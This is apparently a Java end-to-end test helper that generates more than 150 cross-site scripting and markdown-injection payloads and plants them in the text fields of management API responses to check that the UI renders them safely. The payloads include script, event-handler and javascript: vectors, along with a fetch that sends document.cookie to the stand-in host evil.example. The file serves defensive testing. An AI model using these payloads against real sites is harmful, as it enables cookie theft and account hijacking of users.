package dev.vaultgate.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Text that would run, or ask somebody, where it is taken for more than text. */
final class Hostile {

  private static final List<String> SCRIPTS =
      List.of(
          "window.ran=1",
          "parent.ran=1",
          "fetch('https://evil.example/?'+document.cookie)",
          "location='https://evil.example'");

  /** With a script in the place of the bracket. */
  private static final List<String> FORMS =
      List.of(
          "<script>{}</script>",
          "<img src=x onerror=\"{}\">",
          "<svg onload=\"{}\"></svg>",
          "<svg><script>{}</script></svg>",
          "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>",
          "<math><mtext><table><mglyph><style><img src=x onerror=\"{}\">",
          "<body onload=\"{}\">",
          "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
          "<iframe src=\"javascript:{}\"></iframe>",
          "<object data=\"javascript:{}\"></object>",
          "<embed src=\"javascript:{}\">",
          "<details open ontoggle=\"{}\">",
          "<input autofocus onfocus=\"{}\">",
          "<video><source onerror=\"{}\"></video>",
          "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example) }</style>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<base href=https://evil.example>",
          "<form action=https://evil.example><button>go</button></form>",
          "<a href=\"javascript:{}\">x</a>",
          "[x](javascript:{})",
          "[x](  javascript:{})",
          "[x](JaVaScRiPt:{})",
          "[x](data:text/html,<script>{}</script>)",
          "[x](vbscript:{})",
          "![x](https://evil.example/pixel.png)",
          "![x](javascript:{})",
          "[![x](https://evil.example/a.png)](https://evil.example)",
          "<https://evil.example/{}>",
          "[x]: https://evil.example\n\n![][x]",
          "```html\n<script>{}</script>\n```",
          "```mermaid\ngraph TD; A[\"<img src=x onerror={}>\"]\n```",
          "```<img src=x onerror={}>\ncode\n```",
          "`<img src=x onerror=\"{}\">`",
          "| a | <img src=x onerror=\"{}\"> |\n|---|---|\n| b | c |",
          "- [x] <img src=x onerror=\"{}\">",
          "# <img src=x onerror=\"{}\">",
          "> <script>{}</script>",
          "<!--><img src=x onerror=\"{}\">-->",
          "</vg-markdown><script>{}</script>",
          "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
          "<template><img src=x onerror=\"{}\"></template>");

  /** Short ones, for what has a name. */
  private static final List<String> NAMES =
      List.of(
          "<img src=x onerror=window.ran=1>",
          "\"><script>window.ran=1</script>",
          "'onfocus='window.ran=1' autofocus='",
          "<svg/onload=window.ran=1>",
          "javascript:window.ran=1",
          "${alert(1)}<iframe src=//evil.example>");

  /** The members of answers that hold what somebody, or some provider, has written. */
  private static final Set<String> WRITTEN =
      Set.of(
          "name",
          "title",
          "text",
          "email",
          "account",
          "project",
          "model",
          "provider",
          "providers",
          "upstream_model",
          "capabilities",
          "owned_by",
          "price_source",
          "successor",
          "attempts",
          "error_code",
          "key_id",
          "masked",
          "rates",
          "words",
          "reason",
          "note",
          "summary",
          "description",
          "action",
          "subject",
          "actor",
          "device",
          "user_agent",
          "address",
          "deployment",
          "wire",
          "base_url",
          "value");

  private int names;

  /** All of them, more than 150. */
  static List<String> payloads() {
    return FORMS.stream()
        .flatMap(form -> SCRIPTS.stream().map(script -> form.replace("{}", script)))
        .toList();
  }

  /** An answer of the management API in which whatever is written is hostile. */
  JsonNode answer(JsonNode answer) {
    if (answer instanceof ObjectNode object) {
      for (Map.Entry<String, JsonNode> member : object.properties()) {
        boolean isWritten = WRITTEN.contains(member.getKey());
        member.setValue(isWritten ? written(member.getValue()) : answer(member.getValue()));
      }
    } else if (answer instanceof ArrayNode array) {
      array.forEach(this::answer);
    }
    return answer;
  }

  private JsonNode written(JsonNode value) {
    if (value instanceof TextNode text) {
      return TextNode.valueOf(text.textValue() + NAMES.get(names++ % NAMES.size()));
    } else if (value instanceof ArrayNode array) {
      for (int i = 0; i < array.size(); i++) {
        array.set(i, written(array.get(i)));
      }
      return array;
    }
    return answer(value);
  }
}
